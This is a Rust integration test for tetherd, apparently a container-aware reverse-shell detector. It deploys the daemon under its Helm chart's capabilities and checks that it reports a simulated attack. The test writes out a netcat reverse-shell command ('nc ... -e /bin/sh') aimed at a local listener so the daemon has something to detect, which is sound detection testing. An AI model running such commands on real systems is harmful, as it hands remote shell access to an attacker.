//! tetherd out of its own image (`packaging/image`), with what the chart gives it and no more, beside a container that it
//! watches.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::{fs, process};

use crate::common::attacker::Listener;
use crate::common::daemon::{Place, TETHERD, tetherd};
use crate::common::victim::Victim;
use crate::common::{token, wait_for};
use crate::docker::Docker;
use crate::{require, require_docker};

/// The image's name and version.
const IMAGE: &str = concat!("tetherd:", env!("CARGO_PKG_VERSION"));
/// The capabilities of the chart's pod without fanotify.
const CAPABILITIES: [&str; 5] = ["NET_ADMIN", "SYS_PTRACE", "DAC_READ_SEARCH", "SYS_NICE", "SYS_ADMIN"];

/// The image of the program under test.
fn archive() -> PathBuf {
    let done = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("tetherd-image.{}.tar", process::id()));
    let made = Command::new(Path::new(env!("CARGO_MANIFEST_DIR")).join("packaging/image"))
        .args([Path::new(TETHERD), &done])
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .status()
        .unwrap();
    assert!(made.success());
    done
}

/// A directory as the kubelet mounts a ConfigMap: everything is a symbolic link into `..data`.
fn config_map(place: &Place, config: &str) -> PathBuf {
    let etc = place.path("etc");
    fs::create_dir_all(etc.join("..data/rules.d")).unwrap();
    fs::write(etc.join("..data/tetherd.toml"), config).unwrap();
    let rule =
        "[[allow]]\nname = \"nobody\"\nreason = \"a rule that is read\"\nexecutable = [\"/nowhere\"]\n";
    fs::write(etc.join("..data/rules.d/10-own.toml"), rule).unwrap();
    symlink("..data/tetherd.toml", etc.join("tetherd.toml")).unwrap();
    symlink("..data/rules.d", etc.join("rules.d")).unwrap();
    etc
}

/// A container of tetherd's. Gone when dropped.
struct Deployed {
    docker: Arc<Docker>,
    name: String,
}

impl Deployed {
    fn start(docker: &Arc<Docker>, place: &Place, arguments: &str) -> Self {
        let name = token();
        let config = format!(
            "[enrich]\ndocker_directories = [\"{}\"]\n[syslog]\nenabled = false\n",
            docker.home.text("root")
        );
        let etc = config_map(place, &config);
        let capabilities: String = CAPABILITIES.iter().map(|name| format!(" --cap-add {name}")).collect();
        let id = docker.run(&format!(
            "run --detach --name {name} --pid host --network host --read-only --cap-drop ALL{capabilities} \
             --security-opt no-new-privileges --security-opt apparmor=unconfined --tmpfs /run/tetherd \
             --volume {}:/etc/tetherd:ro --volume {}:/var/lib/tetherd --volume {root}:{root}:ro {IMAGE} {arguments}",
            etc.display(),
            place.path("").display(),
            root = docker.home.text("root"),
        ));
        docker.home.owns_cgroup(format!("docker/{}", id.trim()));
        let deployed = Self { docker: docker.clone(), name };
        // The chart's probe.
        wait_for("tetherd in its container answers", || deployed.tries("status").then_some(()));
        deployed
    }

    fn tries(&self, command: &str) -> bool {
        let line = format!("exec {} /usr/bin/tetherd {command}", self.name);
        self.docker.home.try_bash(&self.docker.cli(crate::docker::Api::Unix, &line)).status.success()
    }

    /// Stops it as the kubelet does; its exit code.
    fn stop(&self) -> String {
        self.docker.run(&format!("stop --time 20 {}", self.name));
        self.docker.run(&format!("inspect --format {{{{.State.ExitCode}}}} {}", self.name)).trim().to_owned()
    }
}

impl Drop for Deployed {
    fn drop(&mut self) {
        self.docker
            .home
            .try_bash(&self.docker.cli(crate::docker::Api::Unix, &format!("rm --force {}", self.name)));
    }
}

#[test]
fn the_charts_privileges_suffice() {
    require_docker!();
    require!("python3", "readelf");
    let chart = fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("packaging/helm/tetherd/templates/daemonset.yaml"),
    );
    let chart = chart.unwrap();
    let given: Vec<&str> = chart.lines().filter_map(|line| line.trim().strip_prefix("- ")).collect();
    for capability in CAPABILITIES {
        assert!(given.contains(&capability), "the chart gives no {capability}");
    }

    let (docker, image) = (Docker::shared(), archive());
    docker.run(&format!("load --input {}", image.display()));
    fs::remove_file(&image).unwrap();
    let place = Place::new("");
    let deployed = Deployed::start(&docker, &place, "run --quiet --fanotify off");
    assert!(deployed.tries("check-config"));

    let box_ = docker.sleeper();
    let attacker = Listener::tcp();
    let mut attack = box_.exec(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    attack.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(attack);
    let mut session = attacker.accept();
    session.run("id");
    let found = wait_for("the shell's finding", || {
        place.findings().into_iter().find(|found| {
            found.peer_port() == Some(attacker.port())
                && found.mentions("id")
                && !found.text("Container_Name").is_empty()
        })
    });
    assert_eq!(found.text("Container_Id"), box_.id, "{}", found.brief());
    assert_eq!(found.text("Container_Name"), box_.name, "{}", found.brief());
    assert_eq!(found.text("Container_Runtime"), "docker");
    assert_eq!(found.text("Container_Image_Uri"), crate::image::NAME);
    drop((session, victim));

    assert_eq!(deployed.stop(), "0");
    let spool = place.spool();
    let verified = tetherd(&["verify", "--spool", spool.to_str().unwrap()]);
    assert!(verified.status.success(), "{}", String::from_utf8_lossy(&verified.stdout));
}
